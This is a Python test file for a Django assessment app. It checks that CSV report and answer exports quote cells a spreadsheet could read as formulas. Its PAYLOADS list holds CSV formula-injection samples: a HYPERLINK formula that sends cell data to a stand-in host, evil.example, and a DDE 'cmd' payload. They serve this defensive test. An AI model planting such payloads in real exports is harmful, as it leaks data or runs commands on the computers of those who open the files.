"""The CSV exports never hand a spreadsheet a formula, whoever wrote the text: criteria
editors (names, question texts, option labels are shared by every organization) or
respondents (comments)."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assessment.criteria.lifecycle import questionnaire_import
from assessment.reports.exports import spreadsheet_safe
from assessment.rounds import round_close, round_open
from tests.answering import answer_and_submit
from tests.caches import empty_caches
from tests.criteria_data import small_document
from tests.factories import MembershipFactory

pytestmark = pytest.mark.django_db

# What a spreadsheet may read as the start of a formula, full-width forms included.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LEADS = ("", " ", "   ", "\u3000", "\xa0")  # spaces a spreadsheet may drop first
PAYLOADS = ('HYPERLINK("https://evil.example/?"&A1;"Click")', "cmd|' /C calc'!A0", "1+1", "")

formula_text = st.builds(
    lambda lead, trigger, payload: (lead + trigger + payload)[:200],
    st.sampled_from(LEADS),
    st.sampled_from(TRIGGERS),
    st.sampled_from(PAYLOADS)
    | st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20),
).filter(lambda text: text.strip())  # the format refuses empty names and labels


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


def csv_cells(response) -> list[str]:
    """Every cell of a CSV download (read at once: the rows are streamed from queries)."""
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def hostile_document(texts: dict[str, str]) -> dict:
    """The small questionnaire with formula-like text in every field that reaches an export."""
    document = small_document()
    for practice in document["practices"]:
        practice["name"] = texts["practice"]
        for question in practice["questions"]:
            question["text"] = texts["question"]
            for option in question["options"]:
                option["label"] = texts["option"]
    return document


EXAMPLES = settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@EXAMPLES
@given(
    texts=st.fixed_dictionaries(
        {"practice": formula_text, "question": formula_text, "option": formula_text}
    ),
    comment=formula_text,
)
def test_no_cell_of_any_export_starts_a_formula(client, team, manager, texts, comment):
    client.force_login(manager)
    with transaction.atomic():  # each example starts from the same database
        empty_caches()
        version = questionnaire_import(data=hostile_document(texts)).version
        assessment_round = round_open(team=team, version=version, title="Q", opened_by=manager)
        for _ in range(3):
            respondent = MembershipFactory(team=team).user
            answer_and_submit(assessment_round, respondent, comments={"code-in-vcs": comment})
        round_close(assessment_round=assessment_round)

        report_cells = csv_cells(
            client.get(reverse("assessment:report_csv", args=[assessment_round.pk]))
        )
        answer_cells = csv_cells(
            client.get(reverse("assessment:answers_csv", args=[assessment_round.pk]))
        )
        transaction.set_rollback(True)

    assert [cell for cell in report_cells + answer_cells if starts_a_formula(cell)] == []
    assert texts["practice"] in set(report_cells) | {cell[1:] for cell in report_cells}
    assert comment in set(answer_cells) | {cell[1:] for cell in answer_cells}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  @SUM(A1)", "'  @SUM(A1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1+2", "'-1+2"),
        ("0.5000", "0.5000"),  # numbers stay numbers
        ("-0.25", "-0.25"),
        (2, 2),
        ("Version control", "Version control"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_quotes_formulas_only(value, cell):
    assert spreadsheet_safe(value) == cell
